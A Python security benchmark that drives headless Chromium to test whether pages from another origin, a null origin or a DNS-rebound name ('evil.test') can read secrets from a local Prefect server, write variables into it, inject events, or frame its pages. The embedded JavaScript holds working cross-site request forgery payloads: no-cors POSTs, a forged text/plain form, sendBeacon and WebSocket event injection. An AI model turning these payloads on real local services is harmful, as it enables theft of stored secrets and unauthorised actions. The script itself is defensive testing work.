"""A page of another origin tries to use Prefect's server and the reports, in a real Chromium.

    python -m benchmarks.attack.other_pages            # 'kizu serve' as it starts by default
    python -m benchmarks.attack.other_pages --plain    # Prefect's own server, for comparison

Every way in is tried from a page of another site, from one of another port of this machine, from a
page without an origin, and from a name that was led to this machine (DNS rebinding). What counts is
what was read, or what the server holds afterwards. The exit status is 1 if a page got in.
"""

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Final

import httpx
from playwright.sync_api import Browser, Error, Page, sync_playwright

from kizu.loopback import free_port

CHROMIUM: Final = os.environ.get("KIZU_CHROMIUM", "/usr/bin/chromium")
EVIL: Final = "evil.test"
"""Led to this machine by the browser's own rules, as a rebound name is by a name server."""
FLAGS: Final = ("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run")
SECRET: Final = "key-of-the-image-service"  # noqa: S105 - what the page is after
EVENT: Final = "kizu.images.arrived"
"""It starts the nightly build."""

_PATIENCE_MS: Final = 60_000
_START_S: Final = 300.0  # imports and migrations of Prefect on a busy machine
_SETTLED_MS: Final = 1500
"""What a page sends without waiting for an answer has arrived by then."""

_SEND: Final = """
async ({target, files, event, origin}) => {
  const got = {};
  const json = value => JSON.stringify(value);
  const read = async (name, url, options) => {
    try {
      const answer = await fetch(url, options);
      got[name] = answer.ok ? await answer.text() : "";
    } catch { got[name] = ""; }
  };
  const asked = body => ({
    method: "POST", headers: {"Content-Type": "application/json"}, body: json(body)});
  await read("secret", `${target}/api/block_documents/filter`, asked({include_secrets: true}));
  await read("settings", `${target}/api/admin/settings`);
  await read("reports", `${files}/reports/`);

  const variable = way => json({name: `taken_${origin}_${way}`, value: "1"});
  const variables = `${target}/api/variables/`;
  const blind = async (way, body, headers) => {
    try { await fetch(variables, {method: "POST", mode: "no-cors", body, headers}); } catch {}
  };
  await blind("text", variable("text"));
  await blind("untyped", new Blob([variable("untyped")]));
  await blind("form", new Blob([variable("form")], {type: "application/x-www-form-urlencoded"}));
  await blind("multipart", new Blob([variable("multipart")], {type: "multipart/form-data"}));
  await read("posted", variables, {...asked({}), body: variable("json")});
  try { navigator.sendBeacon(variables, new Blob([variable("beacon")])); } catch {}
  const form = document.createElement("form");
  const field = document.createElement("input");
  Object.assign(form, {method: "POST", enctype: "text/plain", action: variables, target: "hidden"});
  [field.name, field.value] = variable("submitted").replace(/}$/, ',"x":"|"}').split("|");
  field.name = field.name.slice(0, -1) + '"'; field.value = '"}';
  const hidden = document.createElement("iframe");
  hidden.name = "hidden";
  form.append(field); document.body.append(hidden, form); form.submit();

  const talk = (name, path, subprotocol, messages) => new Promise(done => {
    const socket = new WebSocket(`${target.replace("http", "ws")}${path}`, subprotocol);
    const end = value => { got[name] = value; socket.close(); done(); };
    socket.onopen = () => {
      messages.forEach(one => socket.send(json(one)));
      setTimeout(() => end("open"), 300);
    };
    socket.onerror = () => end("");
  });
  const signed = {type: "auth", token: null};
  const now = new Date().toISOString();
  const arrived = {event, occurred: now, id: crypto.randomUUID ? crypto.randomUUID()
    : "00000000-0000-4000-8000-00000000000" + Math.floor(10 * Math.random()),
    resource: {"prefect.resource.id": `kizu.images.${origin}`}, related: [], payload: {}};
  await talk("events in", "/api/events/in", [], [arrived]);
  await talk("events in, signed", "/api/events/in", ["prefect"], [signed, arrived]);
  await talk("events out", "/api/events/out", ["prefect"], [signed, {type: "filter", filter: {}}]);
  await talk("logs out", "/api/logs/out", ["prefect"], [signed, {type: "filter", filter: {}}]);

  const shown = (name, url) => new Promise(done => {
    const image = new Image();
    image.onload = () => { got[name] = "shown"; done(); };
    image.onerror = () => { got[name] = ""; done(); };
    image.src = url;
  });
  await shown("icon", `${target}/ico/favicon.ico`);
  const frame = document.createElement("iframe");
  frame.name = "framed"; frame.src = `${target}/v2/`;
  document.body.append(frame);
  return got;
}
"""


@dataclass(frozen=True)
class Target:
    """What is attacked.

    Attributes:
        url: Where the server is.
        files_url: Where the reports are.
    """

    url: str
    files_url: str


def main() -> int:
    """Attack; return 1 if a page got in."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--plain", action="store_true", help="attack Prefect's server itself")
    plain = parser.parse_args().plain
    with tempfile.TemporaryDirectory() as folder, started(Path(folder), plain=plain) as target:
        prepare(target)
        found = attack(target)
    for place, ways in found.items():
        print(f"{place.replace('_', ' ')}: {', '.join(ways) or 'nothing'}")
    return int(any(found.values()))


@contextmanager
def started(folder: Path, *, plain: bool) -> Iterator[Target]:
    """Start what is attacked, with its data in a folder; yield it.

    Args:
        folder: The folder.
        plain: Start ``prefect server start`` in the place of ``kizu serve``.
    """
    port, files_port = free_port(), free_port()
    serve = ["-c", "from kizu.cli import app; app()", "serve", "--files-port", str(files_port)]
    command = ["-m", "prefect", "server", "start"] if plain else serve
    env = {name: value for name, value in os.environ.items() if not name.startswith("PREFECT_")}
    env |= {"PYTHONPATH": str(Path(__file__).parents[2]), "PREFECT_HOME": str(folder / "home")}
    with (folder / "output").open("wb") as output:
        process = subprocess.Popen(  # noqa: S603 - our own command
            [sys.executable, *command, "--port", str(port)],
            cwd=folder,
            env={**env, "PREFECT_SERVER_ANALYTICS_ENABLED": "false"},
            stdout=output,
            stderr=subprocess.STDOUT,
        )
    try:
        url = f"http://127.0.0.1:{port}"
        _wait_for(url)
        yield Target(url, f"http://127.0.0.1:{files_port}")
    finally:
        process.send_signal(signal.SIGINT)
        process.wait()


def _wait_for(url: str) -> None:
    deadline = time.monotonic() + _START_S
    while time.monotonic() < deadline:
        try:
            httpx.get(f"{url}/api/health").raise_for_status()
        except httpx.HTTPError:
            time.sleep(0.3)
        else:
            return
    raise SystemExit(f"no server at {url}")


def prepare(target: Target) -> None:
    """Put in what a page would be after: a secret, as a user does."""
    with httpx.Client(base_url=f"{target.url}/api/", timeout=60) as api:
        kind = api.get("block_types/slug/secret").raise_for_status().json()
        schemas = {"block_schemas": {"block_type_id": {"any_": [kind["id"]]}}}
        [schema, *_] = api.post("block_schemas/filter", json=schemas).raise_for_status().json()
        block = {
            "name": "image-service",
            "data": {"value": SECRET},
            "block_type_id": kind["id"],
            "block_schema_id": schema["id"],
        }
        api.post("block_documents/", json=block).raise_for_status()


def attack(target: Target) -> dict[str, list[str]]:
    """Try every way in from every place.

    Args:
        target: A server that ``prepare`` was called for.

    Returns:
        Per place the ways by which a page got in; none is an empty list.
    """
    with _evil_page() as port, _browser() as browser:
        found = {
            name: _from(browser, place, target, name)
            for name, place in {
                "another_site": f"http://{EVIL}:{port}/",
                "another_port": f"http://127.0.0.1:{port}/",
                "no_origin": f"http://{EVIL}:{port}/sandboxed",
            }.items()
        }
        found["rebound_name"] = _rebound(browser, target)
    return found


def _from(browser: Browser, place: str, target: Target, name: str) -> list[str]:
    """Return what a page got that is opened at a place."""
    page = browser.new_page()
    page.set_default_timeout(_PATIENCE_MS)
    page.goto(place)
    given = {"target": target.url, "files": target.files_url, "event": EVENT, "origin": name}
    got: dict[str, str] = page.evaluate(_SEND, given)
    page.wait_for_timeout(_SETTLED_MS)
    ways = [way for way, text in got.items() if text and (way != "secret" or SECRET in text)]
    ways += [f"variable {way}" for way in _variables(target, name)]
    ways += ["event"] * _events(target, name)
    ways += ["frame"] * _is_framed(page, target)
    page.close()
    return ways


def _rebound(browser: Browser, target: Target) -> list[str]:
    """Return what a page of the other name reads, the name being led to the target's own ports."""
    ways = []
    page = browser.new_page()
    for what, url, path in (
        ("server", target.url, "/api/block_documents/filter"),
        ("reports", target.files_url, "/reports/"),
    ):
        rebound = url.replace("127.0.0.1", EVIL)
        try:
            answer = page.goto(f"{rebound}/")
        except Error:  # nothing serves there
            continue
        if answer is not None and answer.ok:
            ways.append(f"{what}: page")
        ask = f"""async () => {{
          const body = {json.dumps(json.dumps({"include_secrets": True}))};
          const sent = {{method: "POST", body, headers: {{"Content-Type": "application/json"}}}};
          try {{ return (await fetch("{path}", "{what}" == "server" ? sent : undefined)).ok; }}
          catch {{ return false; }}
        }}"""
        if page.evaluate(ask):
            ways.append(f"{what}: data")
    page.close()
    return ways


def _variables(target: Target, name: str) -> list[str]:
    """Return the ways by which a page has written to the server."""
    found = httpx.post(f"{target.url}/api/variables/filter", json={}, timeout=60).json()
    prefix = f"taken_{name}_"
    return [one["name"].removeprefix(prefix) for one in found if one["name"].startswith(prefix)]


def _events(target: Target, name: str) -> bool:
    """Tell whether the server was told by a page that photos have arrived."""
    chosen = {"filter": {"resource": {"id": [f"kizu.images.{name}"]}}}
    found = httpx.post(f"{target.url}/api/events/filter", json=chosen, timeout=60).json()
    return bool(found["events"])


def _is_framed(page: Page, target: Target) -> bool:
    return any(frame.name == "framed" and frame.url.startswith(target.url) for frame in page.frames)


@contextmanager
def _evil_page() -> Iterator[int]:
    """Serve an empty page at every name; yield its port."""

    class Empty(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            if self.path == "/sandboxed":  # its origin is "null"
                self.send_header("Content-Security-Policy", "sandbox allow-scripts allow-forms")
            self.end_headers()
            self.wfile.write(b"<!doctype html><body>")

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Empty) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


@contextmanager
def _browser() -> Iterator[Browser]:
    rules = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*FLAGS, rules])
        try:
            yield browser
        finally:
            browser.close()


if __name__ == "__main__":
    sys.exit(main())
